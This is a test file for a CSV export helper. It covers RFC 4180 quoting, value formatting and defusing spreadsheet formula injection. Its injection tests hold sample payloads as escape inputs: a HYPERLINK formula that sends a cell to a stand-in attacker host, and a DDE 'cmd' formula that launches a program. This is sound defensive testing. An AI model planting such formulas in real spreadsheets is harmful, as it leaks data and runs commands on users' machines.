import assert from "node:assert/strict";
import { CSV_EOL, csvCell, csvRow, csvTable } from "../../functions-shared/core/export/csv.ts";
import { parseCsv } from "../support/csv.ts";

Deno.test("RFC 4180: plain fields as they are; comma, quote, CR and LF quoted; quotes doubled", () => {
  assert.equal(csvCell("dosing"), "dosing");
  assert.equal(csvCell("a,b"), '"a,b"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell("line1\nline2"), '"line1\nline2"');
  assert.equal(csvCell("line1\r\nline2"), '"line1\r\nline2"');
  assert.equal(csvCell(" padded "), " padded ");
  assert.equal(csvCell(""), "");
  assert.equal(csvRow(["a", "b,c", null]), 'a,"b,c",' + CSV_EOL);
  assert.equal(CSV_EOL, "\r\n");
});

Deno.test("null and undefined are empty; numbers, bigints and booleans are written as such", () => {
  assert.equal(csvCell(null), "");
  assert.equal(csvCell(undefined), "");
  assert.equal(csvCell(-5), "-5", "a negative number is data, not a formula");
  assert.equal(csvCell(12.5), "12.5");
  assert.equal(csvCell(Number.NaN), "");
  assert.equal(csvCell(9007199254740993n), "9007199254740993");
  assert.equal(csvCell(true), "true");
});

Deno.test("formula injection: text starting with = + - @ tab or CR is neutralised with an apostrophe", () => {
  assert.equal(csvCell("=1+1"), "'=1+1");
  assert.equal(csvCell("+1"), "'+1");
  assert.equal(csvCell("-1"), "'-1");
  assert.equal(csvCell("@SUM(A1)"), "'@SUM(A1)");
  assert.equal(csvCell("\t=1"), "'\t=1");
  assert.equal(csvCell("\r=1"), '"\'\r=1"');
  assert.equal(
    csvCell('=HYPERLINK("https://evil.example?"&A1,"x")'),
    '"\'=HYPERLINK(""https://evil.example?""&A1,""x"")"',
  );
  assert.equal(csvCell("a=b"), "a=b", "only a leading character matters");
});

Deno.test("objects become JSON text (quoted when needed, never neutralised away)", () => {
  assert.equal(csvCell({ status: 403, path: "/x" }), '"{""status"":403,""path"":""/x""}"');
  assert.equal(csvCell({}), "{}");
});

Deno.test("csvTable: header and rows in column order", () => {
  const table = csvTable<{ id: number; note: string }>([
    { name: "id", value: (r) => r.id },
    { name: "note", value: (r) => r.note },
  ]);
  assert.equal(table.header, "id,note\r\n");
  assert.equal(table.row({ id: 1, note: "=cmd|' /C calc'!A0" }), "1,'=cmd|' /C calc'!A0\r\n");
});

Deno.test("round trip through an RFC 4180 reader", () => {
  const values = ["plain", "a,b", 'q"q', "multi\r\nline", "", "=x", "ünïcödé ✓"];
  const [record] = parseCsv(csvRow(values));
  assert.deepEqual(record, ["plain", "a,b", 'q"q', "multi\r\nline", "", "'=x", "ünïcödé ✓"]);
});
